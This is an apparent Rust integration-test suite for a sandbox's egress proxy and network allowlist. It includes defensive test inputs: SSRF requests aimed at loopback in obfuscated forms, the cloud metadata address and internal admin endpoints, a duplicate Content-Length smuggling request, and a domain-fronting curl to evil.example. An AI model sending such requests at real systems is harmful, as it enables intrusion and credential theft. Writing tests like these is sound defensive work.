//! Network modes and the egress proxy: the real programs against an internet of our own.

use std::fs;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use system_tests::closed_network::{Internet, SERVER, enclosed};
use system_tests::http::Ask;
use system_tests::identity::caller_is_root;
use system_tests::wait::until;
use system_tests::{Account, Installation, Setup};
use types::Role;

/// Names of the closed network, each with the address that its resolver answers.
const HOSTS: &[(&str, &str)] = &[
    (SERVER, "git.forge.example"),
    (SERVER, "crates.forge.example"),
    (SERVER, "static.crates.forge.example"),
    (SERVER, "npm.forge.example"),
    (SERVER, "pypi.forge.example"),
    (SERVER, "files.pypi.forge.example"),
    (SERVER, "evil.example"),
    ("11.22.33.1", "ourselves.forge.example"),
    ("127.0.0.1", "loop.forge.example"),
    ("169.254.169.254", "metadata.forge.example"),
    ("10.1.2.3", "intranet.forge.example"),
];

const NAMES: &[&str] = &[
    "git.forge.example",
    "crates.forge.example",
    "static.crates.forge.example",
    "npm.forge.example",
    "pypi.forge.example",
    "files.pypi.forge.example",
    "evil.example",
];

/// How the user's programs come to trust the test's authority: their own usual means.
const TRUST: [&str; 7] = [
    "CURL_CA_BUNDLE",
    "GIT_SSL_CAINFO",
    "CARGO_HTTP_CAINFO",
    "NODE_EXTRA_CA_CERTS",
    // Over a `cafile` that the machine's own npmrc may name.
    "npm_config_cafile",
    "PIP_CERT",
    "SSL_CERT_FILE",
];

const AUTHORITY: &str = "/opt/trust/ca.pem";

fn sysroot() -> String {
    let output = Command::new("rustc")
        .args(["--print", "sysroot"])
        .output()
        .unwrap();
    String::from_utf8(output.stdout).unwrap().trim().to_owned()
}

/// An installation that shows its sandboxes a toolchain and the authority.
async fn installation(internet: &Internet, network: &str) -> (Installation, tempfile::TempDir) {
    let trust = tempfile::Builder::new()
        .prefix("choir-trust-")
        .tempdir()
        .unwrap();
    let open = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    fs::set_permissions(trust.path(), open).unwrap();
    fs::copy(internet.authority(), trust.path().join("ca.pem")).unwrap();
    let readable = std::os::unix::fs::PermissionsExt::from_mode(0o644);
    fs::set_permissions(trust.path().join("ca.pem"), readable).unwrap();
    let installation = Setup::default()
        .config(&format!(
            "[sandbox]\npath = \"/choir/bin:/opt/rust/bin:/usr/local/bin:/usr/bin:/bin\"\n\
             mounts = [{{ source = {:?}, target = \"/opt/rust\" }}, {{ source = {:?}, target = \"/opt/trust\" }}]\n\
             {network}",
            sysroot(),
            trust.path(),
        ))
        .start()
        .await;
    (installation, trust)
}

/// A command with a network mode.
fn networked(mode: &str, script: &str) -> Value {
    let mut env: Vec<[&str; 2]> = TRUST.map(|name| [name, AUTHORITY]).to_vec();
    env.push(["PYTHONDONTWRITEBYTECODE", "1"]);
    json!({ "argv": ["sh", "-c", script], "network": mode, "env": env })
}

async fn succeed(alice: &Account, mode: &str, script: &str) -> String {
    let (code, output) = alice.command(Role::Live, &networked(mode, script)).await;
    assert_eq!(code, Some(0), "{script}\n{output}");
    output
}

async fn fail(alice: &Account, mode: &str, script: &str) -> String {
    let (code, output) = alice.command(Role::Live, &networked(mode, script)).await;
    assert_ne!(code, Some(0), "{script}\n{output}");
    output
}

async fn allow(alice: &Account, rule: &str) -> Value {
    alice
        .control(
            "POST",
            "/admin/network/rules",
            Some(json!({ "rule": rule })),
        )
        .await
        .expect(201)
        .json()
}

async fn notices(alice: &Account) -> String {
    let answer = alice
        .control("GET", "/me/sandboxes/live/notices", None)
        .await;
    answer.expect(200).text()
}

fn run(dir: &Path, program: &str, arguments: &[&str]) -> Vec<u8> {
    let output = Command::new(program)
        .args(arguments)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{program} {arguments:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    output.stdout
}

fn hash(file: &Path, algorithm: &str) -> Vec<u8> {
    run(
        Path::new("/"),
        "openssl",
        &["dgst", algorithm, "-binary", file.to_str().unwrap()],
    )
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// A repository that is served as files (git's "dumb" protocol).
fn publish_git(internet: &Internet) {
    let dir = internet.workshop().join("git");
    fs::create_dir(&dir).unwrap();
    fs::write(dir.join("README"), "from the forge\n").unwrap();
    let identity = [
        "-c",
        "user.name=Forge",
        "-c",
        "user.email=forge@forge.example",
    ];
    run(&dir, "git", &["init", "-q", "-b", "main"]);
    run(&dir, "git", &["add", "."]);
    run(
        &dir,
        "git",
        &[&identity[..], &["commit", "-q", "-m", "First"]].concat(),
    );
    run(&dir, "git", &["clone", "-q", "--bare", ".", "../tiny.git"]);
    let bare = internet.workshop().join("tiny.git");
    run(&bare, "git", &["update-server-info"]);
    internet.put_tree("git.forge.example/tiny.git", &bare);
}

/// A sparse registry with one crate.
fn publish_crate(internet: &Internet) {
    let dir = internet.workshop().join("crates");
    let source = dir.join("tiny-0.1.0/src");
    fs::create_dir_all(&source).unwrap();
    let manifest = "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n";
    fs::write(dir.join("tiny-0.1.0/Cargo.toml"), manifest).unwrap();
    fs::write(source.join("lib.rs"), "pub fn answer() -> u8 { 42 }\n").unwrap();
    run(&dir, "tar", &["czf", "tiny.crate", "tiny-0.1.0"]);
    let archive = dir.join("tiny.crate");
    let entry = json!({
        "name": "tiny", "vers": "0.1.0", "deps": [], "features": {}, "yanked": false,
        "cksum": hex(&hash(&archive, "-sha256")),
    });
    let config = json!({ "dl": "https://static.crates.forge.example/crates" });
    internet.put("crates.forge.example/config.json", config.to_string());
    internet.put("crates.forge.example/ti/ny/tiny", format!("{entry}\n"));
    internet.put(
        "static.crates.forge.example/crates/tiny/0.1.0/download",
        fs::read(archive).unwrap(),
    );
}

fn publish_npm(internet: &Internet) {
    let dir = internet.workshop().join("npm");
    fs::create_dir_all(dir.join("package")).unwrap();
    let package = json!({ "name": "tiny-npm", "version": "1.0.0", "main": "index.js" });
    fs::write(dir.join("package/package.json"), package.to_string()).unwrap();
    fs::write(dir.join("package/index.js"), "module.exports = 42;\n").unwrap();
    run(&dir, "tar", &["czf", "tiny.tgz", "package"]);
    let archive = dir.join("tiny.tgz");
    let integrity = format!("sha512-{}", STANDARD.encode(hash(&archive, "-sha512")));
    let packument = json!({
        "name": "tiny-npm", "dist-tags": { "latest": "1.0.0" },
        "versions": { "1.0.0": {
            "name": "tiny-npm", "version": "1.0.0",
            "dist": { "tarball": "https://npm.forge.example/tiny-npm/-/tiny-npm-1.0.0.tgz", "integrity": integrity },
        } },
    });
    internet.put("npm.forge.example/tiny-npm", packument.to_string());
    internet.put(
        "npm.forge.example/tiny-npm/-/tiny-npm-1.0.0.tgz",
        fs::read(archive).unwrap(),
    );
}

fn publish_wheel(internet: &Internet) {
    let make = r#"
import zipfile
with zipfile.ZipFile("tinypy-1.0-py3-none-any.whl", "w") as wheel:
    wheel.writestr("tinypy.py", "answer = 42\n")
    info = "tinypy-1.0.dist-info/"
    wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: tinypy\nVersion: 1.0\n")
    wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    wheel.writestr(info + "RECORD", "tinypy.py,,\n" + info + "METADATA,,\n" + info + "WHEEL,,\n" + info + "RECORD,,\n")
"#;
    run(internet.workshop(), "python3", &["-c", make]);
    let name = "tinypy-1.0-py3-none-any.whl";
    let page = format!(
        "<!DOCTYPE html><html><body><a href=\"https://files.pypi.forge.example/{name}\">{name}</a></body></html>"
    );
    internet.put("pypi.forge.example/simple/tinypy", page);
    internet.put(
        &format!("files.pypi.forge.example/{name}"),
        fs::read(internet.workshop().join(name)).unwrap(),
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn git_cargo_npm_and_pip_work_through_the_allowlist_unmodified() {
    let test = "network::git_cargo_npm_and_pip_work_through_the_allowlist_unmodified";
    if !enclosed(test, HOSTS) {
        return;
    }
    let internet = Internet::start(NAMES);
    publish_git(&internet);
    publish_crate(&internet);
    publish_npm(&internet);
    publish_wheel(&internet);
    let (installation, _trust) = installation(&internet, "").await;
    let alice = Account::admin(&installation, "alice").await;
    alice.start(Role::Live).await;

    // Nothing is allowed yet: refused, told to the client, and noted with what would allow it.
    let clone = "git clone -q https://git.forge.example/tiny.git && cat tiny/README";
    let refused = fail(&alice, "allowlist", clone).await;
    assert!(refused.contains("403"), "{refused}");
    let noted = notices(&alice).await;
    assert!(
        noted.contains("to allow: choir network allow git.forge.example:443"),
        "{noted}"
    );
    // pip shows the reason phrase itself, when it is asked to talk.
    let pip = "/usr/bin/python3 -m pip install --disable-pip-version-check --retries 0 \
               --index-url https://pypi.forge.example/simple --target site tinypy";
    let refused = fail(&alice, "allowlist", &pip.replace("install", "install -vv")).await;
    assert!(
        refused.contains("choir network allow pypi.forge.example:443"),
        "{refused}"
    );
    assert_eq!(internet.asked(), Vec::<String>::new(), "nothing got out");

    allow(&alice, "git.forge.example").await;
    let cloned = succeed(&alice, "allowlist", clone).await;
    assert!(cloned.contains("from the forge"), "{cloned}");

    allow(&alice, "crates.forge.example").await;
    allow(&alice, "*.crates.forge.example:443").await;
    let cargo = "mkdir -p app/src app/.cargo && cd app && echo 'fn main() { println!(\"{}\", tiny::answer()) }' > src/main.rs && \
        printf '[package]\\nname = \"app\"\\nversion = \"0.1.0\"\\nedition = \"2021\"\\n' > Cargo.toml && \
        printf '[source.crates-io]\\nreplace-with = \"forge\"\\n[source.forge]\\nregistry = \"sparse+https://crates.forge.example/\"\\n' > .cargo/config.toml && \
        cargo add -q tiny && cargo fetch && ls ~/.cargo/registry/src/*/";
    let fetched = succeed(&alice, "allowlist", cargo).await;
    assert!(fetched.contains("tiny-0.1.0"), "{fetched}");

    allow(&alice, "npm.forge.example").await;
    let npm = "mkdir -p web && cd web && npm install --no-audit --no-fund --registry https://npm.forge.example/ tiny-npm && node -p 'require(\"tiny-npm\")'";
    let installed = succeed(&alice, "allowlist", npm).await;
    assert!(installed.trim_end().ends_with("42"), "{installed}");

    allow(&alice, "*.pypi.forge.example").await;
    allow(&alice, "pypi.forge.example").await;
    let pip = format!(
        "{pip} && PYTHONPATH=site /usr/bin/python3 -c 'import tinypy; print(tinypy.answer)'"
    );
    let installed = succeed(&alice, "allowlist", &pip).await;
    assert!(installed.contains("42"), "{installed}");

    // Plain HTTP goes through as well, and the command line tells all of it.
    let plain = succeed(
        &alice,
        "allowlist",
        "curl -sS http://npm.forge.example/tiny-npm",
    )
    .await;
    assert!(plain.contains("dist-tags"), "{plain}");
    let rules = alice
        .control("GET", "/me/network", None)
        .await
        .expect(200)
        .text();
    assert!(rules.contains("*.crates.forge.example:443"), "{rules}");
    let audit = alice
        .control("GET", "/admin/audit?tail=200", None)
        .await
        .expect(200)
        .text();
    for text in [
        "\"network.connect\"",
        "git.forge.example:443",
        "\"not_allowed\"",
        "network.rule.add",
    ] {
        assert!(audit.contains(text), "{text} in {audit}");
    }
}

/// Speaks to the proxy by hand: a line per attempt, with the status of its answer.
const BY_HAND: &str = r#"
import os, re, socket, sys
port = int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1])
def attempt(head):
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(head.encode() + b"\r\n\r\n")
        answer = s.recv(65536).decode(errors="replace")
    found = re.match(r"HTTP/1\.1 (\d+) ?(.*)", answer)
    return (found.group(1) + " " + found.group(2).strip()) if found else "none"
for line in sys.stdin.read().splitlines():
    print(line, "->", attempt(line.replace("|", "\r\n")))
"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_command_gets_nowhere_but_where_the_rules_say() {
    let test = "network::a_hostile_command_gets_nowhere_but_where_the_rules_say";
    if !enclosed(test, HOSTS) {
        return;
    }
    let internet = Internet::start(NAMES);
    let config = "[network]\nmax = \"open\"\nallow = [\"*.forge.example\"]";
    let (installation, _trust) = installation(&internet, config).await;
    let alice = Account::admin(&installation, "alice").await;
    alice.start(Role::Live).await;
    let port = installation.port();
    let attempts = |mode: &str, lines: &[String]| {
        let mut request = networked(mode, "");
        request["argv"] = json!(["/usr/bin/python3", "-c", BY_HAND]);
        request["stdin"] = json!(lines.join("\n"));
        request
    };
    let never = [
        format!("CONNECT localhost:{port} HTTP/1.1|Host: x"),
        format!("CONNECT alice.localhost:{port} HTTP/1.1|Host: x"),
        format!("CONNECT 127.0.0.1:{port} HTTP/1.1|Host: x"),
        format!("CONNECT 0x7f000001:{port} HTTP/1.1|Host: x"),
        format!("CONNECT 2130706433:{port} HTTP/1.1|Host: x"),
        format!("CONNECT [::ffff:127.0.0.1]:{port} HTTP/1.1|Host: x"),
        format!("CONNECT 11.22.33.1:{port} HTTP/1.1|Host: x"),
        "CONNECT 169.254.169.254:80 HTTP/1.1|Host: x".to_owned(),
        "CONNECT ourselves.forge.example:443 HTTP/1.1|Host: x".to_owned(),
        "CONNECT loop.forge.example:443 HTTP/1.1|Host: x".to_owned(),
        "CONNECT metadata.forge.example:80 HTTP/1.1|Host: x".to_owned(),
        "CONNECT intranet.forge.example:443 HTTP/1.1|Host: x".to_owned(),
        format!("GET http://localhost:{port}/me/sandboxes HTTP/1.1|Host: git.forge.example"),
        format!("GET http://127.0.0.1:{port}/admin/users HTTP/1.1|Host: x"),
        "GET http://metadata.forge.example/latest HTTP/1.1|Host: x".to_owned(),
        "GET http://intranet.forge.example/ HTTP/1.1|Host: git.forge.example".to_owned(),
    ];
    let (_, seen) = alice
        .command(Role::Live, &attempts("allowlist", &never))
        .await;
    for line in seen.lines() {
        assert!(line.contains("-> 403 "), "{line}");
    }
    assert_eq!(seen.lines().count(), never.len(), "{seen}");
    let (_, seen) = alice.command(Role::Live, &attempts("open", &never)).await;
    for line in seen.lines() {
        assert!(line.contains("-> 403 "), "{line}");
    }
    assert_eq!(internet.asked(), Vec::<String>::new());

    let listed = [
        (format!("CONNECT {SERVER}:443 HTTP/1.1|Host: x"), "403"),
        (
            "CONNECT evil.example:443 HTTP/1.1|Host: git.forge.example".to_owned(),
            "403",
        ),
        (
            "CONNECT git.forge.example:22 HTTP/1.1|Host: x".to_owned(),
            "403",
        ),
        (
            "CONNECT git.forge.example HTTP/1.1|Host: x".to_owned(),
            "400",
        ),
        (
            "CONNECT user@git.forge.example:443 HTTP/1.1|Host: x".to_owned(),
            "400",
        ),
        (
            "CONNECT git_forge.example:443 HTTP/1.1|Host: x".to_owned(),
            "400",
        ),
        ("GET /provider/v1 HTTP/1.1|Host: x".to_owned(), "401"),
        ("GET /commands HTTP/1.1|Host: x".to_owned(), "401"),
        ("GET /me/sandboxes HTTP/1.1|Host: x".to_owned(), "404"),
        (
            "GET https://git.forge.example/ HTTP/1.1|Host: x".to_owned(),
            "404",
        ),
        (
            "GET http://evil.example/ HTTP/1.1|Host: git.forge.example".to_owned(),
            "403",
        ),
        (
            "POST http://git.forge.example/ HTTP/1.1|Host: x|Content-Length: 4|Content-Length: 5"
                .to_owned(),
            "400",
        ),
        (
            "GET http://git.forge.example/x HTTP/1.1|Host: evil.example".to_owned(),
            "404",
        ),
    ];
    let lines: Vec<String> = listed.iter().map(|(line, _)| line.clone()).collect();
    let (_, seen) = alice
        .command(Role::Live, &attempts("allowlist", &lines))
        .await;
    for (line, (_, status)) in seen.lines().zip(&listed) {
        assert!(line.contains(&format!("-> {status} ")), "{status}: {line}");
    }
    assert_eq!(seen.lines().count(), listed.len(), "{seen}");
    // The one that was let through went to the host of its target, whatever `Host` said.
    assert_eq!(internet.asked(), ["git.forge.example /x"]);

    // TLS for another name in a tunnel for an allowed one (domain fronting).
    let fronting =
        "curl -sS --connect-to evil.example:443:git.forge.example:443 https://evil.example/secret";
    fail(&alice, "allowlist", fronting).await;
    assert!(
        !internet
            .asked()
            .iter()
            .any(|asked| asked.contains("secret"))
    );
    let noted = notices(&alice).await;
    assert!(noted.contains("names evil.example"), "{noted}");
    // What is open is open, by name and by address, and still not to ourselves.
    let open = format!("curl -sS https://evil.example/ && curl -sS -k https://{SERVER}:8443/");
    assert_eq!(
        succeed(&alice, "open", &open).await,
        "nothing here\nnothing here\n"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn connections_end_with_their_rule_and_with_their_command() {
    let test = "network::connections_end_with_their_rule_and_with_their_command";
    if !enclosed(test, HOSTS) {
        return;
    }
    let internet = Internet::start(NAMES);
    let config = "[network]\nconnections = 2\nallow = [\"npm.forge.example\"]";
    let (installation, _trust) = installation(&internet, config).await;
    let alice = Account::admin(&installation, "alice").await;
    alice.start(Role::Live).await;
    let rule = allow(&alice, "git.forge.example").await;
    let mut endless = networked(
        "allowlist",
        "curl -sS https://git.forge.example/endless > /dev/null; echo ended with $?",
    );
    let stays = networked(
        "allowlist",
        "exec curl -sS https://npm.forge.example/endless > /dev/null",
    );
    let begin = async |request: &Value| {
        let mut request = request.clone();
        request["detach"] = json!(true);
        let begun = alice
            .control("POST", "/me/sandboxes/live/commands", Some(request))
            .await;
        begun.expect(201).json()["id"].as_str().unwrap().to_owned()
    };
    assert_eq!(alice.sandbox(Role::Live).await["network"], "none");
    let first = begin(&endless).await;
    let second = begin(&stays).await;
    until("both connections", async || {
        (internet.open() == 2).then_some(())
    })
    .await;
    assert_eq!(alice.sandbox(Role::Live).await["network"], "allowlist");
    let shown = alice
        .control("GET", "/me/sandboxes/live/commands", None)
        .await
        .expect(200)
        .text();
    assert!(shown.contains("\"network\":\"allowlist\""), "{shown}");

    // Two are what a sandbox may have here, whichever command asks for the third.
    let mut third = networked("allowlist", "");
    third["argv"] = json!(["/usr/bin/python3", "-c", BY_HAND]);
    third["stdin"] = json!("CONNECT npm.forge.example:443 HTTP/1.1|Host: x");
    let (_, seen) = alice.command(Role::Live, &third).await;
    assert!(
        seen.contains("-> 503 ") && seen.contains("too many connections"),
        "{seen}"
    );

    let id = rule["id"].as_str().unwrap();
    alice
        .control("DELETE", &format!("/admin/network/rules/{id}"), None)
        .await
        .expect(204);
    until("the end of the one that the rule allowed", async || {
        let view = alice
            .control("GET", &format!("/me/sandboxes/live/commands/{first}"), None)
            .await;
        (view.expect(200).json()["state"] == "exited").then_some(())
    })
    .await;
    assert_eq!(internet.open(), 1, "the other one stays");
    endless["detach"] = json!(false);
    let (_, output) = alice.command(Role::Live, &endless).await;
    assert!(
        output.contains("ended with 56") || output.contains("403"),
        "{output}"
    );

    let kill = alice
        .control(
            "POST",
            &format!("/me/sandboxes/live/commands/{second}/signal"),
            Some(json!({ "signal": "kill" })),
        )
        .await;
    assert!(matches!(kill.status, 200 | 204), "{}", kill.text());
    until("the end of the other one", async || {
        (internet.open() == 0).then_some(())
    })
    .await;
    until("a sandbox without network", async || {
        (alice.sandbox(Role::Live).await["network"] == "none").then_some(())
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_command_without_a_network_mode_reaches_nothing_and_is_told_so() {
    let installation = Setup::default().start().await;
    let alice = Account::admin(&installation, "alice").await;
    alice.start(Role::Live).await;
    let look = r#"
env | grep -i proxy
echo "told: $CODEX_SANDBOX_NETWORK_DISABLED"
python3 - <<'PYTHON'
import socket
# Nothing leaves, DNS included: there is no route, and no resolver that answers.
for kind, address in [(socket.SOCK_STREAM, ("1.1.1.1", 443)), (socket.SOCK_DGRAM, ("1.1.1.1", 53))]:
    s = socket.socket(socket.AF_INET, kind)
    try:
        s.connect(address)
        s.send(b"x")
        print("got out", address)
    except OSError as error:
        print("stopped", error.errno)
try:
    print("resolved", socket.getaddrinfo("crates.io", 443))
except OSError:
    print("unresolved")
PYTHON
"#;
    for mode in ["none", "allowlist"] {
        let request = json!({ "argv": ["sh", "-c", look], "network": mode });
        let (_, output) = alice.command(Role::Live, &request).await;
        assert!(
            !output.contains("got out") && !output.contains("resolved ["),
            "{output}"
        );
        assert_eq!(output.matches("stopped").count(), 2, "{output}");
        assert_eq!(output.contains("told: 1"), mode == "none", "{output}");
        assert_eq!(
            output.contains("HTTPS_PROXY=http://127.0.0.1:"),
            mode != "none",
            "{output}"
        );
        assert!(
            !output.contains('@') && !output.contains("choirgw_"),
            "{output}"
        );
    }
    // Wider than the installation allows: denied with the reason.
    let request = json!({ "argv": ["true"], "network": "open" });
    let refused = alice
        .control("POST", "/me/sandboxes/live/commands", Some(request))
        .await
        .expect(403);
    assert!(
        refused.text().contains("widest network mode"),
        "{}",
        refused.text()
    );
    // One grant is not the other.
    let ask = "import os, sys, urllib.request, urllib.error\n\
        origin = os.environ['http_proxy']\n\
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))\n\
        try: print(opener.open(origin + '/provider/v1', timeout=5).status)\n\
        except urllib.error.HTTPError as error: print(error.code)\n";
    let request = json!({ "argv": ["python3", "-c", ask], "network": "allowlist" });
    let (_, output) = alice.command(Role::Live, &request).await;
    assert_eq!(output, "401\n");
}

/// What holds and what was denied, whoever decided it: the policy, the network rules, a limit.
#[tokio::test(flavor = "multi_thread")]
async fn explain_says_what_an_admin_allowed_and_every_kind_of_denial() {
    let limits = "[sandbox.limits]\nmemory = \"64 MiB\"";
    let installation = Setup::default().config(limits).start().await;
    let alice = Account::admin(&installation, "alice").await;
    alice.start(Role::Live).await;
    let explain = async || {
        let target = "/me/sandboxes/live/explain";
        alice.control("GET", target, None).await.expect(200).json()
    };
    allow(&alice, "forge.example").await;
    let topics = explain().await["topics"].to_string();
    assert!(topics.contains("reach forge.example"), "{topics}");

    let wide = json!({ "argv": ["true"], "network": "open" });
    let commands = "/me/sandboxes/live/commands";
    alice
        .control("POST", commands, Some(wide))
        .await
        .expect(403);
    let connect = "import os, urllib.request\ntry: urllib.request.urlopen('https://elsewhere.example/', timeout=5)\nexcept OSError: pass";
    let request = json!({ "argv": ["python3", "-c", connect], "network": "allowlist" });
    alice.command(Role::Live, &request).await;
    let mut expected = vec![
        ("network_denied", "choir network allow elsewhere.example"),
        ("other", "widest network mode"),
    ];
    if caller_is_root() {
        let eat = json!({ "argv": ["python3", "-c", "x = bytearray(200 << 20)"] });
        alice.command(Role::Live, &eat).await;
        expected.push(("quota", "sandbox.limits.memory"));
    } else {
        eprintln!("SKIPPED: no cgroups without root, so no limit of memory to meet");
    }
    for (kind, words) in expected {
        until("the denial to be explained", async || {
            let denied = explain().await["denied"].as_array().cloned();
            denied
                .unwrap_or_default()
                .iter()
                .any(|one| one["kind"] == kind && one.to_string().contains(words))
                .then_some(())
        })
        .await;
    }
}

/// A rule is an admin's to change, and everybody's to see.
#[tokio::test(flavor = "multi_thread")]
async fn rules_are_changed_by_admins_and_told_on_the_command_line() {
    let installation = Setup::default().start().await;
    let alice = Account::admin(&installation, "alice").await;
    let bob = Account::invited(&installation, &alice, "bob").await;
    let wish = json!({ "rule": "*.Crates.IO.", "note": "cargo" });
    bob.control("POST", "/admin/network/rules", Some(wish.clone()))
        .await
        .expect(403);
    let made = alice
        .control("POST", "/admin/network/rules", Some(wish.clone()))
        .await
        .expect(201)
        .json();
    assert_eq!(made["rule"], "*.crates.io");
    alice
        .control("POST", "/admin/network/rules", Some(wish))
        .await
        .expect(409);
    for wrong in ["*", "localhost", "10.0.0.1", "*.com", "a b"] {
        let answer = alice
            .control(
                "POST",
                "/admin/network/rules",
                Some(json!({ "rule": wrong })),
            )
            .await
            .expect(400);
        assert!(
            answer.text().contains("crates.io"),
            "says what would be valid"
        );
    }
    let seen = bob
        .control("GET", "/me/network", None)
        .await
        .expect(200)
        .json();
    assert_eq!(seen["rules"][0]["rule"], "*.crates.io");
    assert_eq!(seen["rules"][0]["created_by"], "alice");
    let page = alice
        .client
        .send(Ask::new("GET", "localhost", "/assets/network.js"))
        .await;
    assert_eq!(page.status, 200);
    tokio::time::timeout(Duration::from_secs(30), async {
        let id = made["id"].as_str().unwrap();
        let target = format!("/admin/network/rules/{id}");
        bob.control("DELETE", &target, None).await.expect(403);
        alice.control("DELETE", &target, None).await.expect(204);
        alice.control("DELETE", &target, None).await.expect(404);
    })
    .await
    .unwrap();
}
